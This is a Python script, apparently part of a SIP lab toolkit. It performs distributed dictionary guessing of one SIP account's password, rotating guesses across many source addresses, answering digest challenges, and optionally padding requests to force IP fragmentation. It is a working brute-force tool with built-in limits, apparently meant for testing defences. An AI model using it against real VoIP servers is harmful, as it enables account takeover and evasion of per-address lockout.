#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Distributed password guessing of one account, which no stock tool does:
guess j comes from source address j mod N (interleaved, round robin), each
guess a REGISTER without credentials, then, answering the 401 challenge, the
same REGISTER with the guessed password (digest, qop=auth). Stops at the first
200. Bounded by --count guesses and --max-time. Prints one line per guess and
  guesses N, with credentials C, found PASSWORD|none
"""
import argparse
import sys
import time

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
import siplab  # noqa: E402

p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
p.add_argument("--src", required=True, help="comma-separated source addresses, one socket each (port --sport)")
p.add_argument("--sport", type=int, default=5060)
p.add_argument("--dst", required=True)
p.add_argument("--dport", type=int, default=5060)
p.add_argument("--user", required=True)
p.add_argument("--dict", required=True, help="one password a line; the first --count are tried")
p.add_argument("--count", type=int, default=60)
p.add_argument("--rate", type=float, default=5.0, help="guesses per second (all sources together)")
p.add_argument("--wait", type=float, default=2.0, help="how long each step waits for its answer")
p.add_argument("--max-time", type=float, default=120.0)
p.add_argument("--ua", default=siplab.PHONE_UA)
p.add_argument("--pad", type=int, default=0,
               help="about this many bytes of X-Pad header lines in every request (past the MTU: IP fragments)")
a = p.parse_args()
srcs = [s for s in a.src.split(",") if s]
words = [w.strip() for w in open(a.dict) if w.strip()][: a.count]
if not srcs or not (0 < a.count <= 10000 and 0 < a.rate <= 1000 and 0 < a.max_time <= 3600):
    sys.exit("guess.py: --src non-empty, --count 1..10000, --rate 0..1000, --max-time 0..3600")

pad = b"X-Pad: " + b"p" * min(a.pad, 4000) + b"\r\n" if a.pad > 0 else b""


def padded(msg):
    return msg.replace(b"\r\nContent-Length:", b"\r\n" + pad + b"Content-Length:", 1) if pad else msg


r = siplab.Reactor()
dst_host = siplab.host_of(a.dst)
uri = f"sip:{dst_host}"
pending = {}  # Call-ID -> guess dict
stats = {"guesses": 0, "creds": 0, "found": None}


def finish(g, result):
    if g.get("done"):
        return
    g["done"] = True
    pending.pop(g["cid"], None)
    print(f"{g['j']} {g['src']} {g['pw']} {result}", flush=True)
    if result == "accepted":
        stats["found"] = g["pw"]


def on_datagram(sock, data):
    code, h = siplab.parse_response(data)
    if code is None or code < 200:
        return
    g = pending.get(h.get("call-id", ""))
    if g is None or g.get("done"):
        return
    if g["step"] == 1 and code == 401 and "www-authenticate" in h:
        g["step"] = 2
        auth = siplab.digest_header(h["www-authenticate"], False, "REGISTER", uri, a.user, g["pw"])
        msg = siplab.request("REGISTER", uri, a.user, a.dst, g["src"], a.sport, g["cid"], cseq=2, tag=g["tag"],
                             auth=auth, ua=a.ua)
        stats["creds"] += 1
        sock.sendto(padded(msg), (a.dst, a.dport))
        r.at(time.monotonic() + a.wait, lambda: finish(g, "no answer to credentials") if g["step"] == 2 else None)
        return
    if g["step"] == 2:
        finish(g, "accepted" if code == 200 else f"refused {code}")
    else:
        finish(g, f"unexpected {code} before credentials")


socks = {s: r.open(s, on_datagram, a.sport) for s in srcs}


def guess(j):
    if stats["found"]:
        return
    src = srcs[j % len(srcs)]
    g = {"j": j, "src": src, "pw": words[j], "step": 1, "tag": siplab.rand_hex(),
         "cid": f"{siplab.rand_hex(16)}@{siplab.host_of(src)}"}
    pending[g["cid"]] = g
    stats["guesses"] += 1
    msg = siplab.request("REGISTER", uri, a.user, a.dst, src, a.sport, g["cid"], tag=g["tag"], ua=a.ua)
    socks[src].sendto(padded(msg), (a.dst, a.dport))
    r.at(time.monotonic() + a.wait, lambda: finish(g, "no challenge") if g["step"] == 1 else None)


t0 = time.monotonic()
for j in range(len(words)):
    r.at(t0 + j / a.rate, lambda j=j: guess(j))
r.run(t0 + a.max_time)
print(f"guesses {stats['guesses']}, with credentials {stats['creds']}, found {stats['found'] or 'none'}")
